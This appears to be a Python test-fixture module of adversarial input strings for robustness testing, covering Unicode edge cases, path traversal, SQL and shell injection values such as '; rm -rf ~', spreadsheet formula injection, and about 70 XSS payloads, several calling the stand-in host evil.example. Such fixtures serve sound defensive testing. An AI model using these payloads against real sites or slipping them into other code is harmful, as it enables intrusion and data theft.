"""Texts that go wrong in careless programs: names, texts that are none, formulas, and 70 scripts in disguise.

The kinds are those of the Big List of Naughty Strings; the texts are our own. Each script, wherever it ran,
would leave ``pwned`` behind, open a dialog or ask another host.
"""

# Can be read in some script, so a column or a class may be called so
NAMES = [
    *(
        "Ω≈ç√∫˜µ≤≥÷",
        "田中さんにあげて下さい",
        "사회과학원",
        "مرحبا بالعالم",
        "שלום עולם",
        "می\u200cخواهم",
        "क्\u200dष",
        "ไทย",
    ),
    *(
        "😀",
        "👩\u200d🔬",
        "🏳️\u200d🌈",
        "🇩🇪🇫🇷",
        "👍🏽",
        "Z̮̞̠͙͔ͅḀ̗̞͈̻̗",
        "e\u0301",
        "é",
        "ﬀ",
        "İı",
        "ß",
        "Ⱥ",
        "½ ² ₃",
        "１２３",
    ),
    *(
        "'",
        '"',
        '""',
        "''",
        "`",
        "\\",
        "\\\\",
        "/",
        "|",
        "a,b",
        "a;b",
        'say "yes"',
        "it's",
        "“quoted”",
        "‘",
        "«»",
    ),
    *(
        "../../etc/passwd",
        "C:\\con.txt",
        "NUL",
        "~/.ssh",
        "null",
        "undefined",
        "None",
        "true",
        "NULL",
        "(null)",
    ),
    *("__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "$ref", "length", "then"),
    *("{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{_}", "%s%n%x", "%00", "%0d%0a", "\\u0000", "\\n"),
    *(
        "&lt;",
        "&amp;amp;",
        "&#0;",
        "<!--",
        "-->",
        "]]>",
        "<![CDATA[",
        "</",
        "<b>bold</b>",
        "a<b",
        "; DROP TABLE runs",
    ),
    *(
        "' OR '1'='1",
        "$(id)",
        "`id`",
        "; rm -rf ~",
        "| cat",
        "-rf",
        "--help",
        "#",
        "x" * 100,
        "W" * 100,
        "ﷺ" * 30,
    ),
]

# A spreadsheet takes these for something to be computed
FORMULAS = [
    *("=1+1", '=HYPERLINK("http://evil.example")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0"),
    *("@SUM(A1:A9)", '=IMPORTXML("http://evil.example","//a")', "=", "+", "-", "@"),
]

# Cannot be seen, turn others round, or are no characters; never a name
NO_NAMES = [
    *("a\x01b", "a\x08b", "a\x1b[31mb", "a\x7fb", "a\x85b", "a\u200bb", "a\u202eb", "a\u2066b", "a\u200fb"),
    *(
        "a\ufeffb",
        "a\u2028b",
        "a\u00adb",
        "a\ue000b",
        "a\uffffb",
        "a\U000e0041b",
        "a\u00a0b",
        "x" * 101,
        "x" * 5000,
    ),
]

RUN = "window.pwned=1"
ASK = "fetch('//evil.example')"
SCRIPTS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,pwned=1></script>",
    f"<script type=module>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<script >{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<!--><script>{RUN}</script>-->",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</svg><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    "<img src=x onerror=&#119;indow.pwned=1>",
    "<img src=//evil.example/pixel>",
    "<img srcset=//evil.example/pixel>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a href='javascript:{RUN}'><text>a</text></a>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN} />#x'>",
    f"<math><mtext></mtext><script>{RUN}</script>",
    f"<body onload={RUN}>",
    "<iframe src='javascript:parent.pwned=1'>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<iframe src=//evil.example>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    "<style>*{background:url(//evil.example)}</style>",
    f"<style onload={RUN}></style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    f"<form action='javascript:{RUN}'><button autofocus>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"javascript:{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"';{RUN};alert(1)//",
    f'";{RUN};{ASK}//',
    f"<xss contenteditable autofocus onfocus={RUN}>",
    f"<div style=animation-name:x onanimationend={RUN}>",
    f"<script>{ASK}</script>",
    "<script>alert(1)</script>",
    "<script>import('//evil.example/x.js')</script>",
]


def table(names, classes):
    """A CSV text with these columns and these classes; every field in quotes."""
    quoted = ['"' + text.replace('"', '""') + '"' for text in [*names, *classes]]
    head, kinds = quoted[: len(names)], quoted[len(names) :]
    rows = [
        [*[str((row * 7 + column) % 5 - 2) for column in range(len(names) - 1)], kind]
        for row, kind in enumerate(kinds * 2)
    ]
    return "".join(",".join(row) + "\n" for row in [head, *rows])


def groups(texts, size):
    """The texts, so many at a time; the last group reaches back to be full."""
    starts = range(0, len(texts), size)
    return [texts[min(start, len(texts) - size) :][:size] for start in starts]
